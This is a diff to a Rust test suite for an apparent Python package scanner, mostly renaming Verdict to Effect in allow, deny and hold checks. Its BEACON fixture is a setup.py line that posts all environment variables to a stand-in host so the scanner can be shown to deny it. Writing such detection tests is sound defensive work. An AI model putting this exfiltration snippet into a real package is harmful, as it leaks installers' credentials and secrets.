@@ -4,6 +4,7 @@
 
 use std::io::Cursor;
 
+use portcullis_core::policy::Effect;
 use portcullis_core::pypi::filename::DistFilename;
 use portcullis_fixtures::{sdist, wheel};
 
@@ -16,16 +17,18 @@ const BEACON: &str = "import os, urllib.request\n\
     urllib.request.urlopen('https://collect.invalid/', data=str(dict(os.environ)).encode())\n\
     setup(name='demo')\n";
 
-fn inspect(name: &str, bytes: Vec<u8>) -> Inspection {
+fn inspect(name: &str, bytes: Vec<u8>) -> Inspected {
     let filename = DistFilename::parse(name, None).unwrap();
-    inspect_archive(Cursor::new(bytes), &filename, &Budget::default()).unwrap()
+    inspect_archive(Cursor::new(bytes), &filename, &Budget::default())
+        .unwrap()
+        .inspected
 }
 
-fn rules(inspection: &Inspection) -> Vec<&str> {
+fn rules(inspection: &Inspected) -> Vec<&str> {
     inspection
         .observations
         .iter()
-        .map(|seen| seen.rule)
+        .map(|seen| &*seen.rule)
         .collect()
 }
 
@@ -35,8 +38,8 @@ fn a_clean_wheel_is_allowed() {
     let bytes = wheel.build();
     let inspection = inspect(&wheel.filename(), bytes.clone());
     assert_eq!(
-        inspection.verdict,
-        Verdict::Allow,
+        inspection.effect(),
+        Effect::Allow,
         "{:#?}",
         inspection.observations
     );
@@ -53,14 +56,14 @@ fn a_startup_file_with_decoded_code_is_denied() {
         .file("demo/__init__.py", "")
         .file("demo_init.pth", line);
     let inspection = inspect(&wheel.filename(), wheel.build());
-    assert_eq!(inspection.verdict, Verdict::Deny);
+    assert_eq!(inspection.effect(), Effect::Deny);
     let rules = rules(&inspection);
     assert!(
         rules.contains(&"ARC-001") && rules.contains(&"EXE-001"),
         "{rules:?}"
     );
     let first = &inspection.observations[0];
-    let excerpt = &inspection.excerpts[&(first.file.clone(), first.line)];
+    let excerpt = inspection.excerpt(&first.file, first.line).unwrap();
     assert_eq!(excerpt.text, line.trim_end());
     assert!(
         inspection
@@ -76,7 +79,7 @@ fn a_setup_py_that_sends_secrets_is_denied_wherever_it_comes_from() {
     let archived = inspect(&sdist.filename(), sdist.build());
     let alone = inspect_source("setup.py", BEACON.into(), &Budget::default());
     for inspection in [archived, alone] {
-        assert_eq!(inspection.verdict, Verdict::Deny);
+        assert_eq!(inspection.effect(), Effect::Deny);
         let seen = inspection
             .observations
             .iter()
@@ -97,7 +100,7 @@ fn what_cannot_be_read_is_held_and_incomplete() {
     ] {
         let inspection = inspect(name, bytes);
         assert!(!inspection.complete, "{name}");
-        assert!(inspection.verdict >= Verdict::Hold, "{name}");
+        assert!(inspection.effect() >= Effect::Hold, "{name}");
     }
 }
 
@@ -109,7 +112,7 @@ fn a_parser_bomb_is_held() {
     );
     let inspection = inspect_source("demo/__init__.py", bomb.into(), &Budget::default());
     assert!(
-        inspection.verdict >= Verdict::Hold,
+        inspection.effect() >= Effect::Hold,
         "{:?}",
         inspection.observations
     );
@@ -123,8 +126,8 @@ fn no_time_means_incomplete_and_incomplete_means_hold() {
     let inspection = inspect_source("demo/__init__.py", code.into(), &budget);
     assert!(!inspection.complete);
     assert_eq!(
-        (inspection.verdict, inspection.found()),
-        (Verdict::Hold, Verdict::Allow)
+        (inspection.effect(), inspection.found()),
+        (Effect::Hold, Effect::Allow)
     );
 }
 
